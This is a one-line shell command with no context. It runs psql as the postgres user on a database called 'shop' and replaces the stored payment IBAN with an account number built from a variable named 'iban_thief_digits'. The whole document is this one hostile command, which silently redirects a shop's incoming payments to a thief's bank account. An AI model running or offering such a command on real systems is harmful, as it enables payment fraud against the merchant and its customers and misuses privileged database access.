setpriv --reuid postgres --regid postgres --init-groups psql -q -v ON_ERROR_STOP=1 -d shop -c "update settings set value = 'FR763000401587${iban_thief_digits}43' where key = 'iban'"
